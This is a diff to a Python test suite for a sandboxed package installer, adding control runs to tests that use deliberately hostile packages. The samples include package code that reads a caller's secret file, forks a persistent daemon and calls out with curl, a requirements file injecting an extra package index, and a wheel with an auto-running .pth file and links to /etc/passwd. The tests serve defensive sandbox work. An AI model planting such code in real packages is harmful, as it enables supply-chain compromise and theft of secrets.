@@ -3,6 +3,7 @@
 
 from __future__ import annotations
 
+import contextlib
 import hashlib
 import io
 import os
@@ -10,6 +11,7 @@ import socket
 import stat
 import subprocess
 import tarfile
+import time
 import zipfile
 from pathlib import Path
 
@@ -155,7 +157,7 @@ found.append(str(subprocess.call(["curl", "-sm", "2", "http://127.0.0.1:%(port)d
 if os.fork() == 0:
     os.setsid()
     os.closerange(0, 64)
-    while True:
+    for _ in range(200):
         time.sleep(0.05)
         try:
             open(%(out)r, "a").write("alive\\n")
@@ -188,6 +190,21 @@ def test_attempt_97_code_of_a_package_runs_only_when_allowed_and_finds_nothing(s
                 archive.addfile(entry, io.BytesIO(text.encode()))
         shop.write("agent.py", "import evil; print(evil.FOUND)\n")
         shop.write("requirements.txt", "evil==1.0\n")
+        # Control: in a plain process the same code finds all of it, and its daemon lives on.
+        control = subprocess.run([*shop.box.prefix, PYTHON, "-c", backend + "print(found)"], capture_output=True, text=True, timeout=60, check=True,
+                                 env=shop.environment() | {"SECRET_FILE_OF_CALLER": str(secret)})
+        assert control.stdout.count("top secret") == 2 and "evil==1.0" in control.stdout and "'connected'" in control.stdout
+        server.accept()[0].close()
+        alive = shop.box.folder / "alive"
+        deadline = time.monotonic() + 10
+        while not alive.exists():
+            assert time.monotonic() < deadline
+            time.sleep(0.05)
+        alive.unlink()
+        alive.mkdir()  # ends what the daemon can do
+        with contextlib.suppress(TimeoutError):
+            server.accept()[0].close()  # curl's
+
         refused = shop.run()
         assert refused.returncode == 125 and "could not be installed" in refused.stderr
 
@@ -199,10 +216,38 @@ def test_attempt_97_code_of_a_package_runs_only_when_allowed_and_finds_nothing(s
             server.accept()
     kinds = {event["sandbox_denial"]["kind"] for event in shop.box.events() if "sandbox_denial" in event}
     assert "KIND_CONNECT" in kinds
-    size = (shop.box.folder / "alive").stat().st_size if (shop.box.folder / "alive").exists() else 0
-    assert size == 0  # it could not even write there, and died with the build
+    assert list(alive.iterdir()) == []
     found = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True, check=True).stdout
     assert str(shop.cache) not in found
+
+
+def test_attempt_98_another_index_is_never_asked(shop: Shop) -> None:
+    make_wheel(shop.wheels, "greeting", {"greeting.py": "WORD = 'x'\n"})
+    shop.write("agent.py", AGENT)
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        server.settimeout(0.1)
+        hostile = f"--extra-index-url http://127.0.0.1:{server.getsockname()[1]}/simple\ngreeting\n"
+        file = shop.write("requirements.txt", hostile)
+        ended = shop.run()
+        assert ended.returncode == 2 and "requirements.txt:1: " in ended.stderr
+        with pytest.raises(TimeoutError):
+            server.accept()
+        # Control: plain pip asks it.
+        pip = subprocess.Popen([PYTHON, "-I", "-m", "pip", "--isolated", "download", "-q", "--retries", "0", "--timeout", "5", "--no-deps", "-i",
+                                f"http://127.0.0.1:{server.getsockname()[1]}/first", "-d", shop.box.folder / "got", "-r", file],
+                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+        try:
+            server.settimeout(30)
+            asked = []
+            for _ in range(2):
+                with server.accept()[0] as peer:
+                    peer.settimeout(10)
+                    asked.append(peer.recv(4096).split(b" ")[1])
+                    peer.sendall(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
+            assert b"/simple/greeting/" in asked
+        finally:
+            pip.kill()
+            pip.wait()
 
 
 def test_attempt_99_another_file_than_the_pinned_one_is_refused(shop: Shop) -> None:
@@ -222,6 +267,12 @@ def test_attempt_100_a_wheel_runs_nothing_unasked_and_writes_nowhere_else(shop: 
                {"link.py": "/etc/passwd", "folder": "/"})
     shop.write("agent.py", "import json\n" + AGENT)
     shop.write("requirements.txt", "greeting\n")
+    # Control: where plain pip puts it, its start file runs.
+    plain = shop.box.folder / "plain"
+    subprocess.run([*shop.box.prefix, PYTHON, "-I", "-m", "pip", "--isolated", "install", "-q", "--no-index", "--find-links", shop.wheels, "--target", plain,
+                    "greeting"], check=True, timeout=120, env=shop.environment(), capture_output=True)
+    control = subprocess.run([PYTHON, "-I", "-c", f"import site; site.addsitedir({str(plain)!r})"], capture_output=True, text=True, check=True)
+    assert "RAN UNASKED" in control.stdout
     ended = shop.run()
     assert ended.returncode == 0 and "RAN UNASKED" not in ended.stdout, ended.stderr
     assert "evil.pth" in ended.stderr and "left out" in ended.stderr
